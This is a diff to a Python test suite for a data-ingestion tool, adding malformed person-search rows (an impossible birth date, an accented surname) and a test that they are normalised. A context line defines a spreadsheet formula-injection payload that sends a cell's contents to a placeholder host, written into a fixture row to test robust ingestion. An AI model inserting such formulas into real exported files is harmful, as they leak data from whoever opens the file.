@@ -13,6 +13,7 @@ import stat
 import subprocess
 import sys
 import time
+from datetime import date
 from pathlib import Path
 
 import pandas as pd
@@ -25,6 +26,7 @@ from dacall.ingest.loader import ingest
 from dacall.settings import PROJECT_ROOT, UserError
 
 DACALL = str(Path(sys.executable).with_name("dacall"))
+HOSTILE_SEARCHES = {9900001: "SMITH, John 31/02/1980", 9900002: "BRONTË, Charlotte 12/03/1980"}
 HYPERLINK = '=HYPERLINK("http://x/?"&B2,"click") PNC ON IP NTR'
 KEY = "a-test-key-of-more-than-thirty-two-bytes-0123456789"
 
@@ -97,6 +99,16 @@ def hostile(samples, tmp_path_factory):
         log.read_bytes()
         + cp1252_row("HC-250214-0412", "5", "14/02/2025 22:41:00", "S20117", "RESULT", HYPERLINK)
     )
+    # Person searches a build must read, not fail on: an impossible date of birth, and a name
+    # that only Python's folding reads (the SQL normalisation hands it over).
+    searches = landing / "audit_rms" / "audit_rms_20250214.csv"
+    searches.write_bytes(
+        searches.read_bytes()
+        + "".join(
+            f'{audit_id},S10455,SEARCH_PERSON,2025-02-14 22:59:00,"{text}",\n'
+            for audit_id, text in HOSTILE_SEARCHES.items()
+        ).encode("utf-8")
+    )
     # A Windows-1252 feed saved as UTF-8 with a byte-order mark: one rejected file.
     incidents = (landing / "cc_incidents" / "cc_incidents_20250214.csv").read_bytes()
     (landing / "cc_incidents" / "cc_incidents_20250301.csv").write_bytes(
@@ -124,6 +136,19 @@ def hostile(samples, tmp_path_factory):
         "first_report": report,
         "second": second,
     }
+
+
+def test_1_a_person_search_with_an_impossible_date_or_accents_is_read(hostile):
+    assert hostile["first"].returncode == 0, hostile["first"].stderr[-3000:]
+    rows = query(
+        hostile["warehouse"],
+        "select audit_id, surname_key, forename_key, dob, name_readings from staging.stg_audit_rms "
+        f"where audit_id in {tuple(HOSTILE_SEARCHES)} order by audit_id",
+    )
+    assert rows == [
+        (9900001, "SMITH", "JOHN", None, ["SMITH:J"]),
+        (9900002, "BRONTE", "CHARLOTTE", date(1980, 3, 12), ["BRONTE:C"]),
+    ]
 
 
 def _run_id(result: subprocess.CompletedProcess) -> str:
